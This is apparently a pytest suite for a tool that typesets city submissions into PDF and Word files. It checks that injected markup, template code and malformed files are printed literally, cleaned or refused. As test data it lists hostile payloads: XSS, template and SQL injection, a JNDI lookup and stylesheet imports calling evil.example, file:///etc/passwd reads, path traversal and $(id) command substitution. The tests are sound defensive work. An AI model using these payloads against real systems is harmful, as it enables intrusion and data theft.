"""Text from a city is data: it is printed as it is or refused, and never obeyed."""

import json
import re
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pikepdf
import pytest
from weasyprint.urls import FatalURLFetchingError

from books import STOCK, Book, built, checked, copied, own_template, traveled
from citybook.document import Document, Heading, Table, walk
from citybook.findings import Finding
from citybook.folders import OWN_TEMPLATES
from citybook.plate import NO_PICTURES
from citybook.style import read_style
from citybook.writers.html import Macros
from citybook.writers.pdf import Setting
from citybook.writers.typesetter import OwnPictures
from conformance import docx_lint, pdf_lint
from conformance.open_xml import sdk_errors
from conformance.words import characters, docx_characters, tagged_characters

LITERAL = [
    "{{ 7*7 }} and {% for x in y %} and {# no #}",
    "{cities} and {cities:city|cities}",
    "<script>alert(1)</script> <b>bold</b> <img src=file:///etc/passwd>",
    "<style>@import url(https://evil.example/a.css)</style>",
    "&lt; &amp; &#65; &copy;",
    "]]> <!-- comment --> <?xml?>",
    "[bad](javascript:alert) and [worse](file:///etc/passwd)",
    "![x](file:///etc/hostname",
    "../../etc/passwd and C:\\Windows",
    "=1+1 and @SUM(A1) and +1 and -1",
    "%s %d %(x)s {0} $HOME `id` $(id)",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE cities; --",
    "\\u001b[31m and \\x00",
    "PAGE MERGEFORMAT and HYPERLINK https://evil.example",
]
"""Each is printed letter by letter."""

CHANGED = {
    "A\x1b[2Jred": "A[2Jred",
    "be\x07ll and nu\x00l": "bell and nul",
    "right\u202eto\u2066left": "righttoleft",
    "zero\u200bwidth\ufeff": "zerowidth",
    "not\uffffa letter": "nota letter",
}
"""Each is printed without what cannot be printed, and a note tells so."""

REFUSED = {
    "a word of 401 letters": "o" * 401,
    "60,000 characters": "word " * 12_000,
    "3,000 brackets": "[" * 3000,
    "a letter without a glyph": "snow 𒀀 man",
    "a script of no typeface": "မြန်မာ",
}
"""Each is held back with an error."""


def city(name: str, what: str) -> str:
    """Return a city whose mayor and only effort say `what`."""
    quoted = json.dumps(what)
    return (
        f"city: {name}\nstate: Ohio\nmayor: {quoted}\nefforts:\n"
        f"  - {{what: {quoted}, source: https://a.example}}\n"
    )


def cities(texts: Mapping[str, str]) -> dict[str, str]:
    return {
        f"submissions/{name}.yaml": city(name, text) for name, text in texts.items()
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Book:
    """Return the stock edition with a city for each text, good or bad."""
    texts = [*LITERAL, *CHANGED, *REFUSED.values()]
    named = {
        f"City {chr(65 + n // 26)}{chr(97 + n % 26)}": t for n, t in enumerate(texts)
    }
    return built(copied(STOCK, tmp_path_factory.mktemp("hostile"), cities(named)))


@pytest.fixture(scope="module")
def in_pdf(hostile: Book) -> str:
    return tagged_characters(hostile.pdf)


@pytest.fixture(scope="module")
def in_docx(hostile: Book) -> str:
    return docx_characters(hostile.docx)


def bare(text: str) -> str:
    """Return characters without what long text sets as in a book."""
    for sign in "“”‘’\"'":
        text = text.replace(sign, "")
    return characters([text.replace("--", "—")])


@pytest.mark.parametrize("text", LITERAL)
def test_markup_and_code_are_printed_letter_by_letter(
    text: str, in_pdf: str, in_docx: str
) -> None:
    for printed in (in_pdf, in_docx):
        assert f"Mayor:{characters([text])}" in printed
        assert f"Undated{bare(text)}" in bare(printed)


@pytest.mark.parametrize("text", CHANGED)
def test_what_cannot_be_printed_is_left_out_with_a_note(
    text: str, hostile: Book, in_pdf: str, in_docx: str
) -> None:
    for printed in (in_pdf, in_docx):
        assert f"Mayor:{characters([CHANGED[text]])}" in printed
    assert "text-tidied" in {f.rule.slug for f in about(hostile, text)}


@pytest.mark.parametrize("name", REFUSED)
def test_what_would_break_the_page_is_held_back_with_an_error(
    name: str, hostile: Book, in_pdf: str
) -> None:
    places = {f.source for f in hostile.outcome.findings if f.severity == 1}
    files = {source.file for source in places}
    number = len(LITERAL) + len(CHANGED) + list(REFUSED).index(name)
    assert f"City {chr(65 + number // 26)}{chr(97 + number % 26)}.yaml" in files
    assert "[Heldback.Mayor:" in in_pdf


def about(book: Book, value: str) -> list[Finding]:
    return [finding for finding in book.outcome.findings if finding.value == value]


def test_the_book_is_still_sound(hostile: Book) -> None:
    assert hostile.outcome.status == 1
    assert pdf_lint.lint(hostile.pdf) == ()
    assert docx_lint.lint(hostile.docx) == ()
    assert sdk_errors(hostile.docx) == ()


def test_no_link_leads_anywhere_but_to_the_web(hostile: Book) -> None:
    with pikepdf.open(hostile.pdf) as pdf:
        targets = {
            str(link.A.URI)
            for page in pdf.pages
            for link in page.get("/Annots", [])
            if "/A" in link and "/URI" in link.A
        }
    assert targets
    assert not [t for t in targets if not t.startswith(("https://", "http://"))]
    assert not [t for t in targets if "evil" in t]
    with zipfile.ZipFile(hostile.docx) as package:
        relations = package.read("word/_rels/document.xml.rels").decode()
    assert "evil" not in relations
    assert "file:" not in relations


def test_the_page_of_findings_shows_markup_and_runs_none(hostile: Book) -> None:
    page = (hostile.folders.output / "findings.html").read_text()
    assert "<script" not in page
    assert "<b>" not in page
    assert not [char for char in page if ord(char) < 32 and char != "\n"]
    assert "\u202e" not in page


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/cron.d/x",
        "CON",
        "<b>Bold</b>",
        "{{ 7*7 }} City",
        "x" * 100,
        "São *José*",
        "Ελλάδα",
        "'; --",
        "State",
        "Summary",
    ],
)
def test_a_city_may_bear_any_name(name: str, tmp_path: Path) -> None:
    text = f"city: {json.dumps(name)}\nstate: Ohio\nmayor: Pat Proxy\n"
    road = traveled(copied(STOCK, tmp_path, {"submissions/any.yaml": text}))
    keys = keys_of(road.document)
    assert len(road.report.cities) in {3, 4}
    assert not [key for key in keys if not re.fullmatch(r"[a-z0-9/-]+", key)]


def keys_of(document: Document) -> list[str]:
    """Return the keys of all headings and tables."""
    return [
        block.key
        for chapter in document.chapters
        for block in walk(chapter.blocks)
        if isinstance(block, Heading | Table)
    ]


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("State", "Stubton"),
        ("Ελλάδα και όλοι οι άλλοι", "Ελλάδα και όλοι οι άνθρωποι"),
        ("Saint-Exampleton", "Saint Exampletón"),
    ],
)
def test_no_two_places_of_the_book_share_a_key(
    one: str, other: str, tmp_path: Path
) -> None:
    more = {
        f"submissions/{number}.yaml": f"city: {name}\nstate: Ohio\nmayor: Pat Proxy\n"
        for number, name in enumerate((one, other))
    }
    document = traveled(copied(STOCK, tmp_path, more)).document
    keys = keys_of(document)
    assert [key for key in keys if keys.count(key) > 1] == []


def test_the_typesetter_may_fetch_nothing() -> None:
    for address in ("https://evil.example", "file:///etc/passwd", "data:text/plain,x"):
        with pytest.raises(FatalURLFetchingError):
            OwnPictures(NO_PICTURES).fetch(address)


FETCHING = [
    '<img src="https://evil.example/a.png" alt="">',
    '<link rel="stylesheet" href="file:///etc/passwd">',
    "<style>body { background: url(file:///etc/passwd) }</style>",
    "<style>@import url(https://evil.example/a.css)</style>",
    '<object data="file:///etc/passwd"></object>',
]


@pytest.mark.parametrize("markup", FETCHING)
def test_even_a_changed_template_cannot_make_it_fetch(
    markup: str, stock: Book, tmp_path: Path
) -> None:
    macros = own_template("html/blocks.html").replace("<body", f"{markup}<body", 1)
    (tmp_path / "blocks.html").write_text(macros)
    style, _ = read_style(OWN_TEMPLATES / "style.yaml", "style.yaml")
    assert style
    setting = Setting(style, Macros([tmp_path], style.colors))
    pdf = tmp_path / "a.pdf"
    with pytest.raises(FatalURLFetchingError):
        setting.set_book(stock.document, stock.pictures).write(pdf)
    assert not pdf.exists()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.yaml", b"\x00\x01\x02"),
        ("a.yaml", b"city: \xff\xfe"),
        ("a.yaml", b"[" * 5000),
        ("a.yaml", b"city: [A, B]\nstate: {a: b}\n"),
        ("a.yaml", b"- - - x"),
        (
            "a.yaml",
            b"efforts: text\nquotations: [1, [2], {3: 4}]\ncity: A\nstate: OH\n",
        ),
        ("a.yaml", b"city: A\nstate: OH\nefforts:\n  - {what: {a: b}}\n  -\n  - []\n"),
        ("a.xlsx", b"PK\x03\x04 not a zip"),
        ("a.xlsx", b""),
        ("a.xlsx", b"<html></html>"),
        ("a.docx", b"x"),
        ("no-ending", b"x"),
        ("a.yaml", b"city: &a [*a]\n"),
        ("a.yaml", b"? ? ? x\n"),
        ("a.yaml", b"city: A\n...\n---\n--- \nstate: B\n%YAML 9.9\n"),
    ],
)
def test_a_spoilt_file_is_a_finding_and_the_others_are_read(
    name: str, data: bytes, tmp_path: Path
) -> None:
    root = copied(STOCK, tmp_path)
    (root / "submissions" / name).write_bytes(data)
    outcome = checked(root)
    assert outcome.status == 1
    assert outcome.cities in {3, 4}
    assert {f.source.file for f in outcome.findings if f.severity == 1} == {name}
